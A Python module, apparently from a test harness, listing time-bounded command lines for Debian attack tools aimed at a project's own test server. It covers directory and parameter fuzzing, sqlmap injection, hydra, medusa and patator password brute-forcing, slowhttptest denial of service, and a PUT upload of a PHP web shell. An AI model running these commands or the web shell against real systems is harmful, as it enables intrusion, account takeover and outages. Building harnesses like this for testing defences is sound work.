"""The attack tools of Debian, with the word lists that the packages bring, each bounded in time."""
import dataclasses
import pathlib
import shutil

from application import USER
from network import SERVER
from site_httpd import FRONT_PORT

SITE = f"http://{SERVER}"
FRONT = f"http://{SERVER}:{FRONT_PORT}"  # a site that is one application
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
DIRB = "/usr/share/dirb/wordlists"
WFUZZ = "/usr/share/wfuzz/wordlist"
PASSWORDS = "/usr/share/nmap/nselib/data/passwords.lst"
SHELL = "<?php system($_GET['c']); ?>"


@dataclasses.dataclass(frozen=True)
class Tool:
    name: str       # for --tool
    package: str
    what: str       # what it is made to do
    command: tuple  # {words} is the private directory
    limit_s: int = 40

    @property
    def program(self):
        return self.command[0]

    def missing(self):
        files = [word for word in self.command if word.startswith("/usr/share/")]
        return ([] if shutil.which(self.program) else [self.program]) + [file for file in files if not pathlib.Path(file).exists()]


def _tool(name, package, what, command, *more, limit_s=40):
    return Tool(name, package, what, (*command.split(), *more), limit_s)


def _nmap(name, what, scripts, *more, limit_s=40):
    return _tool(name, "nmap", what, "nmap -Pn -n -sT -p 80 --script", scripts, *more, SERVER, limit_s=limit_s)


# The first passwords of nmap's list, and the first lines of dirsearch's.
CUT_LISTS = {"passwords": (PASSWORDS, 400), "dicc": ("/usr/lib/python3/dist-packages/dirsearch/db/dicc.txt", 2500)}


def write_cut_lists(directory):
    for name, (source, most) in CUT_LISTS.items():
        lines = (line for line in pathlib.Path(source).read_text(errors="replace").splitlines() if line and not line.startswith("#!"))
        (directory / name).write_text("\n".join([line for line, _ in zip(lines, range(most))]) + "\n")


TOOLS = [
    # Names of files and directories.
    _tool("dirb", "dirb", "its `common.txt`", f"dirb {SITE}/ {DIRB}/common.txt -S -r -w"),
    _tool("dirsearch", "dirsearch", "2500 lines of its list",
          f"dirsearch -u {SITE}/ -w {{words}}/dicc -e php -t 20 -q -o {{words}}/report"),
    _tool("gobuster", "gobuster", "dirb's `common.txt`, a browser's agent", f"gobuster dir -q -u {SITE}/ -w {DIRB}/common.txt -a", BROWSER),
    _tool("gobuster-front", "gobuster", "the same, the 404 are an application's",
          f"gobuster dir -q -u {FRONT}/ -w {DIRB}/common.txt -a", BROWSER),
    _tool("gobuster-slow", "gobuster", "the first again, three names a second for 40 s",
          f"gobuster dir -q -t 1 --delay 300ms -u {SITE}/ -w {DIRB}/common.txt -a", BROWSER),
    _tool("ffuf", "ffuf", "dirb's `common.txt`, 40 at once", f"ffuf -s -u {SITE}/FUZZ -w {DIRB}/common.txt"),
    _tool("wfuzz", "wfuzz", "its `general/common.txt`", f"wfuzz --hc 404 -w {WFUZZ}/general/common.txt {SITE}/FUZZ"),
    _tool("dirb-cgi", "dirb", "its `vulns/cgis.txt`", f"dirb {SITE} {DIRB}/vulns/cgis.txt -S -r -w"),
    # Scanners.
    _nmap("nmap-enum", "`http-enum`", "http-enum"),
    _nmap("nmap-http", "all `http-*` but brute, dos, fuzzer, external", "http-* and not (brute or dos or fuzzer or external)", limit_s=60),
    _tool("whatweb", "whatweb", "`-a 4`", f"whatweb -a 4 --no-errors -q {SITE}/", limit_s=40),
    _tool("wafw00f", "wafw00f", "`-a`", f"wafw00f -a {SITE}/"),
    _tool("wapiti", "wapiti", "its usual modules", f"wapiti -u {SITE}/ --flush-session --no-bugreport -v 0 -o {{words}}/report "
          "--max-scan-time 40", limit_s=60),
    _tool("changeme", "changeme", "default passwords of devices", f"changeme --fresh --delay 0 {SERVER}"),
    # Payloads into a page that exists.
    _tool("sqlmap", "sqlmap", "`/item?id=1`", f"sqlmap -u {SITE}/item?id=1 --batch --flush-session --disable-coloring"),
    _tool("sqlmap-agent", "sqlmap", "the same, `--random-agent --level 3`", f"sqlmap -u {SITE}/item?id=1 --batch --flush-session "
          "--disable-coloring --random-agent --level 3"),
    _tool("wfuzz-inject", "wfuzz", "its `Injections/All_attack.txt`, `/item?id=`", f"wfuzz -w {WFUZZ}/Injections/All_attack.txt "
          f"{SITE}/item?id=FUZZ"),
    _tool("wfuzz-traversal", "wfuzz", "its `vulns/dirTraversal-nix.txt`, `/search?q=`", f"wfuzz -w {WFUZZ}/vulns/dirTraversal-nix.txt "
          f"{SITE}/search?q=FUZZ"),
    _tool("arjun", "arjun", "names of parameters of `/search`", f"arjun -q -u {SITE}/search"),
    _tool("ffuf-put", "ffuf", "PUT of a web shell, dirb's `small.txt`", f"ffuf -s -X PUT -u {SITE}/uploads/FUZZ.php -w {DIRB}/small.txt -d",
          SHELL),
    # Passwords.
    _tool("hydra-basic", "hydra", "400 passwords, Basic", f"hydra -I -l {USER} -P {{words}}/passwords -t 8 {SERVER} http-get /private/"),
    _tool("medusa-basic", "medusa", "400 passwords, Basic",
          f"medusa -h {SERVER} -u {USER} -P {{words}}/passwords -M http -m DIR:/private/"),
    _tool("ncrack-basic", "ncrack", "400 passwords, Basic",
          f"ncrack -f --user {USER} -P {{words}}/passwords http://{SERVER}:80,path=/private/"),
    _tool("patator-basic", "patator", "400 passwords, Basic", f"patator http_fuzz url={SITE}/private/ user_pass={USER}:FILE0 "
          f"resolve={SERVER}:{SERVER} 0={{words}}/passwords -x ignore:code=401"),
    _tool("patator-payload", "patator", "the same, one and the same `<script>` in the query", "patator http_fuzz "
          f"url={SITE}/private/?x=%3Cscript%3Ealert(1)%3C/script%3E user_pass={USER}:FILE0 resolve={SERVER}:{SERVER} "
          "0={words}/passwords -x ignore:code=401"),
    _tool("patator-slow", "patator", "one password a second for 40 s, Basic", f"patator http_fuzz url={SITE}/private/ "
          f"user_pass={USER}:FILE0 resolve={SERVER}:{SERVER} 0={{words}}/passwords -x ignore:code=401 -t 1 --rate-limit=1"),
    _nmap("nmap-brute", "`http-brute`, its 10 users, 400 passwords, Basic", "http-brute", "--script-args",
          "http-brute.path=/private/,passdb={words}/passwords"),
    _tool("hydra-form", "hydra", "400 passwords, POST `/login`", f"hydra -I -l {USER} -P {{words}}/passwords -t 8 {SERVER} http-post-form",
          "/login:user=^USER^&password=^PASS^&submit=Log in:Wrong"),
    _tool("patator-form", "patator", "400 passwords, POST `/wp-login.php`", f"patator http_fuzz url={SITE}/wp-login.php method=POST "
          f"resolve={SERVER}:{SERVER}", f"body=log={USER}&pwd=FILE0", "0={words}/passwords", "-x", "ignore:fgrep=Wrong"),
    _tool("medusa-form", "medusa", "400 passwords, POST `/login`",
          f"medusa -h {SERVER} -u {USER} -P {{words}}/passwords -M web-form -m FORM:login -m DENY-SIGNAL:Wrong",
          "-m", "FORM-DATA:post?user=&password=&submit=1"),
    # Load.
    _tool("slowhttptest-headers", "slowhttptest", "`-H`, 200 connections",
          f"slowhttptest -H -c 200 -r 50 -i 5 -l 38 -u {SITE}/", limit_s=50),
    _tool("slowhttptest-range", "slowhttptest", "`-R`, 500 connections", f"slowhttptest -R -c 500 -r 100 -l 15 -u {SITE}/"),
    _tool("ab", "apache2-utils", "3000 requests, 20 at once", f"ab -q -n 3000 -c 20 {SITE}/"),
    _tool("siege", "siege", "a page with picture, style and script, 1000 times, 20 at once", f"siege -q -b -c 20 -r 50 {SITE}/news/1.html"),
    # Broken requests.
    _tool("doona", "doona", "`-m HTTP`", f"doona -m HTTP -t {SERVER} -p 80 -o 0 -M 600", limit_s=40),
]
